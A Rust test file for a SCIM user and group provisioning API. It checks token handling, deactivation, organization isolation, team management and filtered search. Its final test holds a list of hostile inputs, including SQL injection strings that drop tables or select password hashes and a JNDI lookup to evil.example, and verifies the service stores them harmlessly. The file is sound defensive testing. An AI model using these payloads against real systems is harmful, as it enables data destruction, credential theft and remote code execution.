//! Provisioning by a directory.

use serde_json::{Value, json};
use tale_core::Code;
use tale_identity::Role;
use tale_identity::api_keys::BelongsTo;
use tale_identity::members::{MemberChange, NewMember};
use tale_identity::scim::{Directory, Invalid, Page, Resource, ScimError, Search, View};
use tale_identity::teams::{NewTeam, TeamChange};

use crate::world::{PASSWORD, Person, World, code};

const BASE: &str = "https://tale.test/scim/v2";

struct Scene {
    world: World,
    owner: Person,
    directory: Directory,
}

impl Scene {
    async fn new() -> Self {
        let world = World::new().await;
        let owner = world.owner().await;
        let token = world.identity.make_provisioning_token(&owner.caller).await.unwrap().secret;
        world.identity.set_provisioning(&owner.caller, true).await.unwrap();
        let directory = world.identity.directory(&token).await.unwrap();
        Self { world, owner, directory }
    }

    async fn create(&self, body: Value) -> Result<Resource, ScimError> {
        self.world.identity.scim_create_user(&self.directory, BASE, &body, &View::default()).await
    }

    async fn patch(&self, id: &str, operations: Value) -> Result<Resource, ScimError> {
        let body = json!({ "Operations": operations });
        self.world.identity.scim_patch_user(&self.directory, BASE, (id, None), &body, &View::default()).await
    }

    async fn patch_group(&self, id: &str, operations: Value) -> Result<Resource, ScimError> {
        let body = json!({ "Operations": operations });
        self.world.identity.scim_patch_group(&self.directory, BASE, (id, None), &body, &View::default()).await
    }

    async fn group(&self, name: &str, members: &[&str]) -> Result<Resource, ScimError> {
        let members: Vec<Value> = members.iter().map(|id| json!({ "value": id })).collect();
        let body = json!({ "displayName": name, "members": members });
        self.world.identity.scim_create_group(&self.directory, BASE, &body, &View::default()).await
    }

    async fn users(&self, filter: Option<&str>, start: i64, count: i64) -> Page {
        let search = Search::new(filter, Some(start), Some(count), View::default()).unwrap();
        self.world.identity.scim_users(&self.directory, BASE, &search).await.unwrap()
    }

    async fn role(&self, id: &str) -> Option<Role> {
        let members = self.world.identity.members(&self.owner.caller).await.unwrap();
        members.into_iter().find(|member| member.user.to_string() == id).map(|member| member.role)
    }
}

fn id(resource: &Resource) -> String {
    resource.body["id"].as_str().unwrap().to_owned()
}

fn kind(answer: Result<Resource, ScimError>) -> Option<Invalid> {
    match answer.unwrap_err() {
        ScimError::Invalid { kind, .. } => Some(kind),
        _ => None,
    }
}

#[tokio::test]
async fn a_token_opens_one_organization_until_it_is_replaced_or_switched_off() {
    let scene = Scene::new().await;
    let (identity, owner) = (&scene.world.identity, &scene.owner);
    let first = identity.make_provisioning_token(&owner.caller).await.unwrap().secret;
    assert_eq!(identity.directory(&first).await.unwrap().org, owner.org);
    let second = identity.make_provisioning_token(&owner.caller).await.unwrap().secret;
    assert_eq!(code(identity.directory(&first).await), Code::Unauthorized);
    identity.set_provisioning(&owner.caller, false).await.unwrap();
    assert_eq!(code(identity.directory(&second).await), Code::Forbidden);
    let editor = scene.world.member(owner, "ed@acme.test", Role::Editor).await;
    assert_eq!(code(identity.make_provisioning_token(&editor.caller).await.map(drop)), Code::OrgForbidden);
    assert_eq!(code(identity.set_provisioning(&editor.caller, true).await), Code::OrgForbidden);
    let shown = identity.provisioning(&owner.caller).await.unwrap();
    assert!(!format!("{shown:?}").contains(&second[..20]) && shown.token.is_some());
    scene.world.db.app.close().await;
    for malformed in ["", "tale_s_x", &first.replace("tale_s", "tale_u")] {
        assert_eq!(code(identity.directory(malformed).await), Code::Unauthorized, "without a query");
    }
}

#[tokio::test]
async fn people_come_go_and_come_back() {
    let scene = Scene::new().await;
    let made = scene
        .create(json!({ "userName": "Ann@Acme.test", "externalId": "e1", "name": { "givenName": "Ann", "familyName": "Lee" } }))
        .await
        .unwrap();
    let ann = id(&made);
    assert_eq!(scene.role(&ann).await, Some(Role::Member));
    assert_eq!(made.body["userName"], "Ann@Acme.test");
    assert_eq!(made.body["emails"], json!([{ "value": "ann@acme.test", "primary": true }]));
    let members = scene.world.identity.members(&scene.owner.caller).await.unwrap();
    assert!(members.iter().any(|member| member.email == "ann@acme.test" && member.name == "Ann Lee"));

    // Deactivating remembers the role and ends what the person has here, at once.
    let user = ann.parse().unwrap();
    let change =
        MemberChange { role: Some(Role::Developer), password: Some(PASSWORD.into()), ..MemberChange::default() };
    scene.world.identity.update_member(&scene.owner.caller, user, &change).await.unwrap();
    let signed_in = scene.world.sign_in("ann@acme.test", PASSWORD).await.unwrap();
    let session = scene.world.identity.authenticate_session(&signed_in.token, false).await.unwrap();
    let caller = scene.world.identity.caller_for_session(&session, None).await.unwrap();
    let own = scene.world.identity.create_key(&caller, BelongsTo::Maker, "k", None).await.unwrap();
    let for_ann =
        scene.world.identity.create_key(&scene.owner.caller, BelongsTo::Member(user), "k", None).await.unwrap();
    let off = scene.patch(&ann, json!([{ "op": "Replace", "path": "active", "value": "False" }])).await.unwrap();
    assert_eq!((&off.body["active"], scene.role(&ann).await), (&json!(false), Some(Role::Disabled)));
    assert_eq!(code(scene.world.identity.authenticate_session(&signed_in.token, false).await), Code::Unauthorized);
    for key in [&own, &for_ann] {
        assert_eq!(code(scene.world.identity.authenticate_key(&key.secret, None).await), Code::OrgForbidden);
    }
    let on = scene.patch(&ann, json!([{ "op": "replace", "value": { "active": true } }])).await.unwrap();
    assert_eq!((&on.body["active"], scene.role(&ann).await), (&json!(true), Some(Role::Developer)));
    let entries = scene.world.audited(scene.owner.org, "member.role_changed").await;
    scene.patch(&ann, json!([{ "op": "replace", "value": { "active": true } }])).await.unwrap();
    assert_eq!(scene.world.audited(scene.owner.org, "member.role_changed").await, entries, "nothing changed");

    // Removing leaves the account; whoever comes back must be added by a person.
    let at = (ann.as_str(), None);
    scene.world.identity.scim_delete_user(&scene.directory, BASE, at).await.unwrap();
    assert_eq!(scene.role(&ann).await, None);
    assert_eq!(code(scene.world.identity.authenticate_key(&for_ann.secret, None).await), Code::Unauthorized);
    let gone = scene.world.identity.scim_user(&scene.directory, BASE, &ann, &View::default()).await;
    assert_eq!(gone.unwrap_err(), ScimError::Unknown);
    assert!(matches!(scene.create(json!({ "userName": "ann@acme.test" })).await, Err(ScimError::Taken(_))));
}

#[tokio::test]
async fn a_directory_reaches_neither_owners_nor_accounts_of_others() {
    let scene = Scene::new().await;
    let owner = scene.owner.id.to_string();
    for operations in [
        json!([{ "op": "replace", "path": "active", "value": false }]),
        json!([{ "op": "replace", "path": "userName", "value": "mallory@evil.test" }]),
        json!([{ "op": "replace", "value": { "userName": "boss", "emails": [{ "value": "mallory@evil.test" }] } }]),
    ] {
        assert!(matches!(scene.patch(&owner, operations).await, Err(ScimError::Protected(_))));
    }
    let refused = scene.world.identity.scim_delete_user(&scene.directory, BASE, (&owner, None)).await;
    assert!(matches!(refused, Err(ScimError::Protected(_))));
    assert_eq!(scene.role(&owner).await, Some(Role::Owner));
    scene.patch(&owner, json!([{ "op": "replace", "path": "title", "value": "Boss" }])).await.unwrap();

    // Of another organization nothing is there, and its account is not taken over.
    let stranger = scene.world.stranger("eve@other.test", "Other").await;
    let eve = stranger.id.to_string();
    assert_eq!(
        scene.patch(&eve, json!([{ "op": "replace", "path": "title", "value": "x" }])).await.unwrap_err(),
        ScimError::Unknown
    );
    for taken in [
        json!({ "userName": "EVE@other.test" }),
        json!({ "userName": "eve", "emails": [{ "value": "eve@other.test" }] }),
        json!({ "userName": "owner@acme.test" }),
    ] {
        assert!(matches!(scene.create(taken).await, Err(ScimError::Taken(_))));
    }
    assert_eq!(scene.users(None, 1, 10).await.total, 1);
    // A member who belongs elsewhere too keeps address and name, and the other organization.
    let new = NewMember {
        email: "eve@other.test".into(),
        name: None,
        role: Role::Editor,
        password: None,
        must_change_password: false,
    };
    scene.world.identity.add_member(&scene.owner.caller, &new).await.unwrap();
    let renamed = scene.patch(&eve, json!([{ "op": "replace", "path": "userName", "value": "eve@acme.test" }])).await;
    assert!(matches!(renamed, Err(ScimError::Protected(_))));
    scene
        .patch(&eve, json!([{ "op": "replace", "value": { "displayName": "Mallory", "active": false } }]))
        .await
        .unwrap();
    let caller = scene.world.identity.caller_for_session(&stranger.principal, Some(stranger.org)).await.unwrap();
    assert_eq!(caller.org, stranger.org);
    let me = scene.world.identity.members(&stranger.caller).await.unwrap();
    assert_eq!(me[0].name, "Stranger");
    let here = scene.world.identity.caller_for_session(&stranger.principal, Some(scene.owner.org)).await;
    assert_eq!(code(here), Code::OrgForbidden);
}

#[tokio::test]
async fn names_are_kept_and_nobody_gets_anothers() {
    let scene = Scene::new().await;
    let ann = id(&scene.create(json!({ "userName": "ann", "emails": [{ "value": "ann@acme.test" }] })).await.unwrap());
    let ben = id(&scene.create(json!({ "userName": "ben@acme.test" })).await.unwrap());
    assert!(matches!(
        scene.create(json!({ "userName": "ANN", "emails": [{ "value": "x@acme.test" }] })).await,
        Err(ScimError::Taken(_))
    ));
    assert!(matches!(
        scene.patch(&ann, json!([{ "op": "replace", "path": "userName", "value": "Ben@Acme.test" }])).await,
        Err(ScimError::Taken(_))
    ));
    assert_eq!(kind(scene.create(json!({ "userName": "no address" })).await), Some(Invalid::Value));
    assert_eq!(kind(scene.patch(&ann, json!([{ "op": "remove", "path": "userName" }])).await), Some(Invalid::Value));
    scene
        .patch(&ben, json!([{ "op": "replace", "value": { "userName": "Benno@acme.test", "displayName": "Benno" } }]))
        .await
        .unwrap();
    let members = scene.world.identity.members(&scene.owner.caller).await.unwrap();
    assert!(members.iter().any(|member| member.email == "benno@acme.test" && member.name == "Benno"));
    // A change of an older version is refused.
    let read = scene.world.identity.scim_user(&scene.directory, BASE, &ben, &View::default()).await.unwrap();
    let body = json!({ "userName": "benno@acme.test", "title": "x" });
    let put = async |tag: &str| {
        scene.world.identity.scim_replace_user(&scene.directory, BASE, (&ben, Some(tag)), &body, &View::default()).await
    };
    assert_ne!(put(&read.etag).await.unwrap().etag, read.etag);
    assert_eq!(put(&read.etag).await.unwrap_err(), ScimError::Stale);
    put("*").await.unwrap();
}

#[tokio::test]
async fn two_changes_at_once_are_both_kept() {
    let scene = Scene::new().await;
    let ann = id(&scene.create(json!({ "userName": "ann@acme.test" })).await.unwrap());
    let group = id(&scene.group("Sales", &[]).await.unwrap());
    let title = scene.patch(&ann, json!([{ "op": "add", "path": "title", "value": "Dr" }]));
    let name = scene.patch(&ann, json!([{ "op": "add", "path": "name.givenName", "value": "Ann" }]));
    let own = scene.owner.id.to_string();
    let first = scene.patch_group(&group, json!([{ "op": "add", "path": "members", "value": [{ "value": ann }] }]));
    let second = scene.patch_group(&group, json!([{ "op": "add", "path": "members", "value": [{ "value": own }] }]));
    let (title, name, first, second) = tokio::join!(title, name, first, second);
    for answer in [title, name, first, second] {
        answer.unwrap();
    }
    let read = scene.world.identity.scim_user(&scene.directory, BASE, &ann, &View::default()).await.unwrap();
    assert_eq!((&read.body["title"], &read.body["name"]["givenName"]), (&json!("Dr"), &json!("Ann")));
    let group = scene.world.identity.scim_group(&scene.directory, BASE, &group, &View::default()).await.unwrap();
    assert_eq!(group.body["members"].as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn groups_are_teams_with_members_of_the_organization_only() {
    let scene = Scene::new().await;
    let (identity, owner) = (&scene.world.identity, &scene.owner);
    let ann = id(&scene.create(json!({ "userName": "ann@acme.test" })).await.unwrap());
    let stranger = scene.world.stranger("eve@other.test", "Other").await;
    let sales = scene.group("Sales", &[&ann]).await.unwrap();
    let team = id(&sales);
    assert_eq!(sales.body["members"], json!([{ "value": ann, "$ref": format!("{BASE}/Users/{ann}"), "type": "User" }]));
    let eve = stranger.id.to_string();
    assert_eq!(kind(scene.group("Other", &[&eve]).await), Some(Invalid::Value));
    let add = |user: &str| json!([{ "op": "add", "path": "members", "value": [{ "value": user }] }, { "op": "replace", "path": "displayName", "value": "X" }]);
    assert_eq!(kind(scene.patch_group(&team, add(&eve)).await), Some(Invalid::Value));
    assert_eq!(identity.teams(&owner.caller).await.unwrap()[0].name, "Sales", "nothing was saved");
    assert!(matches!(scene.group(" SALES ", &[]).await, Err(ScimError::Taken(_))));
    scene.patch_group(&team, json!([{ "op": "replace", "value": { "displayName": "sales" } }])).await.unwrap();

    // The team is the directory's: the app neither renames nor fills it, as long as provisioning is on.
    let id_of_team = team.parse().unwrap();
    let rename = TeamChange { name: Some("Mine".into()), description: None };
    assert_eq!(code(identity.update_team(&owner.caller, id_of_team, &rename).await), Code::TeamManaged);
    assert_eq!(code(identity.add_to_team(&owner.caller, id_of_team, &[owner.id]).await), Code::TeamManaged);
    let describe = TeamChange { name: None, description: Some("Sells".into()) };
    identity.update_team(&owner.caller, id_of_team, &describe).await.unwrap();
    identity.set_provisioning(&owner.caller, false).await.unwrap();
    identity.add_to_team(&owner.caller, id_of_team, &[owner.id]).await.unwrap();
    identity.set_provisioning(&owner.caller, true).await.unwrap();

    // Directories also say with a value who goes, and empty a group.
    let out = json!([{ "op": "Remove", "path": "members", "value": [{ "value": owner.id.to_string() }] }]);
    assert_eq!(scene.patch_group(&team, out).await.unwrap().body["members"].as_array().unwrap().len(), 1);
    let out = json!([{ "op": "remove", "path": format!("members[value eq \"{ann}\"]") }]);
    assert_eq!(scene.patch_group(&team, out).await.unwrap().body.get("members"), None);
    // A team of another organization is not there.
    let foreign = NewTeam { name: "Foreign".into(), ..NewTeam::default() };
    let foreign = identity.create_team(&stranger.caller, &foreign).await.unwrap().id.to_string();
    assert_eq!(scene.patch_group(&foreign, add(&ann)).await.unwrap_err(), ScimError::Unknown);
    let refused = identity.scim_delete_group(&scene.directory, BASE, (&foreign, None)).await;
    assert_eq!(refused.unwrap_err(), ScimError::Unknown);
    identity.scim_delete_group(&scene.directory, BASE, (&team, None)).await.unwrap();
    assert!(identity.teams(&owner.caller).await.unwrap().is_empty());
}

#[tokio::test]
async fn searches_find_page_and_look_up() {
    let scene = Scene::new().await;
    for number in 0..5 {
        let body =
            json!({ "userName": format!("user{number}@acme.test"), "externalId": format!("x{number}"), "title": "Dr" });
        scene.create(body).await.unwrap();
    }
    let names = |page: &Page| -> Vec<String> {
        page.resources.iter().map(|user| user["userName"].as_str().unwrap().to_owned()).collect()
    };
    let page = scene.users(None, 2, 2).await;
    assert_eq!((page.total, names(&page)), (6, vec!["user0@acme.test".to_owned(), "user1@acme.test".to_owned()]));
    let page = scene.users(Some(r#"title eq "dr" and not (externalId eq "x0")"#), 2, 2).await;
    assert_eq!((page.total, names(&page)), (4, vec!["user2@acme.test".to_owned(), "user3@acme.test".to_owned()]));
    for one in [r#"userName eq "USER3@acme.test""#, r#"externalId eq "x3" and active eq true"#] {
        assert_eq!(names(&scene.users(Some(one), 1, 10).await), ["user3@acme.test"], "{one}");
    }
    for none in [r#"externalId eq "X3""#, r#"userName eq "x' OR '1'='1""#, r#"id eq "1""#, r#"shoeSize eq "4""#] {
        assert_eq!(scene.users(Some(none), 1, 10).await.total, 0, "{none}");
    }
    assert_eq!(
        (scene.users(None, -5, 500).await.resources.len(), scene.users(None, 1, 0).await.resources.len()),
        (6, 0)
    );
    let group = scene.group("Sales", &[&scene.owner.id.to_string()]).await.unwrap();
    let found = async |filter: &str| {
        let search = Search::new(Some(filter), None, None, View::read(None, Some("members")).unwrap()).unwrap();
        scene.world.identity.scim_groups(&scene.directory, BASE, &search).await.unwrap()
    };
    let mine = found(&format!("members.value eq \"{}\"", scene.owner.id)).await;
    assert_eq!((mine.total, &mine.resources[0]["id"], mine.resources[0].get("members")), (1, &group.body["id"], None));
    assert_eq!((found("displayName eq \"sales\"").await.total, found("members.value eq \"x\"").await.total), (1, 0));
}

#[tokio::test]
async fn what_a_directory_writes_is_never_a_part_of_a_statement() {
    let scene = Scene::new().await;
    let hostile = [
        "Robert'); DROP TABLE app.users;--",
        "' OR '1'='1",
        "\" or userName pr or \"",
        "\\' UNION SELECT password_hash FROM app.users --",
        "%",
        "_____",
        "$1",
        "${jndi:ldap://evil.example}",
    ];
    let mut ids = Vec::new();
    for (at, name) in hostile.iter().enumerate() {
        let body = json!({ "userName": format!("p{at}@acme.test"), "externalId": name, "displayName": name });
        ids.push(id(&scene.create(body).await.unwrap()));
    }
    for (at, name) in hostile.iter().enumerate() {
        // Each finds itself, whole, and nobody else.
        let page = scene.users(Some(&format!("externalId eq {}", Value::from(*name))), 1, 100).await;
        assert_eq!(
            page.resources.iter().map(|found| found["id"].clone()).collect::<Vec<_>>(),
            [json!(ids[at])],
            "{name}"
        );
        assert!(scene.users(Some(&format!("userName eq {}", Value::from(*name))), 1, 100).await.resources.is_empty());
        let group = scene.group(name, &[&ids[at]]).await.unwrap();
        assert_eq!(group.body["displayName"], *name);
        let renamed = json!([{ "op": "replace", "path": format!("members[value eq {}].display", Value::from(*name)), "value": name }]);
        let _ = scene.patch_group(&id(&group), renamed).await;
    }
    let people = scene.users(None, 1, 100).await;
    assert_eq!(people.resources.len(), hostile.len() + 1, "nobody is gone and nobody came");
    assert_eq!(scene.role(&ids[0]).await, Some(Role::Member));
}
